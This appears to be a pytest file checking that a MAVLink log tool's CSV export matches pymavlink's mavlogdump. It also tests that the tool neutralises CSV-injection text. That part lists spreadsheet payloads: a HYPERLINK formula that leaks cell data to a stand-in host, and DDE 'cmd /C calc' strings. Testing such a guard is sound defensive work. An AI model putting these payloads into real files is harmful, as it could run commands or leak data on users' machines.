"""`export -T csv` against mavlogdump (pymavlink's tool): the same header and cells per message type.

mavlogdump writes a row as `"{:.8f}".format(m._timestamp)` then `str(value)` per field of
`m.to_dict()`; the expected rows here are made that way from pymavlink reading the tlog itself, and
one type is compared with mavlogdump's own output. One difference by design (issue 35 item 15): a
float32 (a `float` field) is written as the shortest text that reads back as the same float32, where
mavlogdump writes the double (30.48, not 30.479999542236328): expected here as numpy's float32 finds the
digits, `str(numpy.float32(v))`, laid out by Python's repr (`repr(float(digits))`), element by element
in an array; NaN and infinities as `str()` writes them. Timestamps agree to a microsecond: both are the
tlog's microseconds as a double, printed with 8 decimals, beyond a double's precision at 1.7e9 s
(pymavlink multiplies by 1e-6 where mavscope divides by 1e6: they may differ in the last bit).
"""

from __future__ import annotations

import csv
import math
import subprocess
import sys
from collections import defaultdict
from pathlib import Path

import numpy as np
from pymavlink import mavutil

from tests.conftest import CAPTURES, Cli

TLOG = CAPTURES / "px4_sitl.tlog"


def _read(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def _same_row(got: list[str], want: list[str]) -> bool:
    return abs(float(got[0]) - float(want[0])) < 1e-6 and got[1:] == want[1:]


def _f32(v: float) -> str:
    return repr(float(str(np.float32(v)))) if math.isfinite(v) else str(v)


def _cell(value: object, float32: bool) -> str:
    if float32 and isinstance(value, list):
        return "[" + ", ".join(_f32(x) for x in value) + "]"
    return _f32(value) if float32 and isinstance(value, float) else str(value)


def _pymavlink_rows() -> dict[str, list[list[str]]]:
    conn = mavutil.mavlink_connection(str(TLOG), dialect="all")
    out: dict[str, list[list[str]]] = defaultdict(list)
    while (m := conn.recv_match()) is not None:
        if m.get_type() == "BAD_DATA":
            continue
        data = m.to_dict()
        out[m.get_type()].append(["{:.8f}".format(m._timestamp)] + [_cell(data[f], t == "float")
                                                                    for f, t in zip(m.fieldnames, m.fieldtypes)])
    return out


def test_every_message_type_as_pymavlink_reads_it(cli: Cli, tmp_path: Path) -> None:
    status, out, err = cli("export", str(TLOG), "-T", "csv", "-o", str(tmp_path))
    assert status == 0, err
    folder = tmp_path / TLOG.name
    want = _pymavlink_rows()
    assert sorted(p.stem for p in folder.glob("*.csv")) == sorted(want)
    for msg, rows in want.items():
        got = _read(folder / f"{msg}.csv")
        cls = getattr(mavutil.mavlink, f"MAVLink_{msg.lower()}_message")
        assert got[0] == ["timestamp"] + [f"{msg}.{f}" for f in cls.fieldnames]
        assert len(got) - 1 == len(rows), msg
        for g, w in zip(got[1:], rows):
            assert _same_row(g, w), (msg, g, w)


def test_a_type_as_mavlogdump_prints_it(cli: Cli, tmp_path: Path) -> None:
    mavlogdump = Path(sys.executable).parent / "mavlogdump.py"
    dumped = subprocess.run([sys.executable, str(mavlogdump), "--format", "csv", "--types", "GPS_RAW_INT", str(TLOG)],
                            capture_output=True, text=True, check=True).stdout.splitlines()
    assert cli("export", str(TLOG), "-T", "csv", "-o", str(tmp_path)).status == 0
    got = (tmp_path / TLOG.name / "GPS_RAW_INT.csv").read_text().splitlines()
    assert got[0] == dumped[0] and len(got) == len(dumped) > 10
    for g, d in zip(got[1:], dumped[1:]):
        assert _same_row(g.split(","), d.split(","))


def test_two_captures_of_one_name_get_two_folders(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    for d, src in (("a", TLOG), ("b", CAPTURES / "serial_dump.raw")):
        (tmp_path / d / "cap.bin").write_bytes(src.read_bytes())
    out = tmp_path / "out"
    status, text, err = cli("export", str(tmp_path / "a" / "cap.bin"), str(tmp_path / "b" / "cap.bin"),
                            "-T", "csv", "-o", str(out))
    assert status == 0, err
    assert sorted(p.name for p in out.iterdir()) == ["cap.bin", "cap.bin.2"]
    # serial_dump.raw has no capture time: an empty timestamp, as a raw stream has none
    assert _read(out / "cap.bin.2" / "HEARTBEAT.csv")[1][0] == ""


# Text a hostile sender puts in STATUSTEXT, and the cell a spreadsheet must read as text (OWASP's
# CSV-injection rule, applied by hand: a cell beginning with = + - @ TAB or CR gets a leading ', unless
# it is a signed number).
HOSTILE = [
    ('=HYPERLINK("http://x.example/?"&A1,"ok")', '\'=HYPERLINK("http://x.example/?"&A1,"ok")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("-12.5", "-12.5"),  # a number: left as it is
    ("PreArm: Gyros inconsistent", "PreArm: Gyros inconsistent"),
]


def _hostile_tlog(tmp: Path) -> Path:
    from tests.support.flows import T0, Sender, v2, write_tlog

    s = Sender(1, 1)
    entries = [(T0 + i, s.pack(v2.MAVLink_statustext_message(4, text.encode()))) for i, (text, _) in enumerate(HOSTILE)]
    # a negative number in a numeric field is never touched
    entries.append((T0 + 10, s.pack(v2.MAVLink_global_position_int_message(0, -353632610, 1491652370, 0, -500,
                                                                            0, 0, 0, 0))))
    return Path(write_tlog(tmp, entries, "hostile.tlog"))


def test_text_a_spreadsheet_would_run_is_written_as_text(cli: Cli, tmp_path: Path) -> None:
    tlog = _hostile_tlog(tmp_path)
    status, _, err = cli("export", str(tlog), "-T", "csv", "-o", str(tmp_path / "out"))
    assert status == 0, err
    rows = _read(tmp_path / "out" / tlog.name / "STATUSTEXT.csv")
    text = rows[0].index("STATUSTEXT.text")
    assert [r[text] for r in rows[1:]] == [want for _, want in HOSTILE]
    assert "export: 5 text cell(s) began with = + - @" in err and "--unsafe-csv" in err
    gpi = _read(tmp_path / "out" / tlog.name / "GLOBAL_POSITION_INT.csv")
    assert gpi[1][gpi[0].index("GLOBAL_POSITION_INT.lat")] == "-353632610"
    assert gpi[1][gpi[0].index("GLOBAL_POSITION_INT.relative_alt")] == "-500"

    status, _, err = cli("export", str(tlog), "-T", "csv", "-o", str(tmp_path / "raw"), "--unsafe-csv")
    assert status == 0 and "text cell" not in err
    rows = _read(tmp_path / "raw" / tlog.name / "STATUSTEXT.csv")
    assert [r[text] for r in rows[1:]] == [sent for sent, _ in HOSTILE]


def test_sql_csv_guards_text_cells_too(cli: Cli, tmp_path: Path) -> None:
    tlog = _hostile_tlog(tmp_path)
    q = "SELECT text, -1 AS n FROM STATUSTEXT ORDER BY _frame"
    status, out, err = cli("sql", q, str(tlog), "--csv")
    assert status == 0, err
    rows = list(csv.reader(out.splitlines(keepends=True)))
    assert rows[0] == ["text", "n"]
    assert rows[1:] == [[want, "-1"] for _, want in HOSTILE]
    assert "sql: 5 text cell(s)" in err
    status, out, err = cli("sql", q, str(tlog), "--csv", "--unsafe-csv")
    assert [r[0] for r in csv.reader(out.splitlines(keepends=True))][1:] == [sent for sent, _ in HOSTILE]
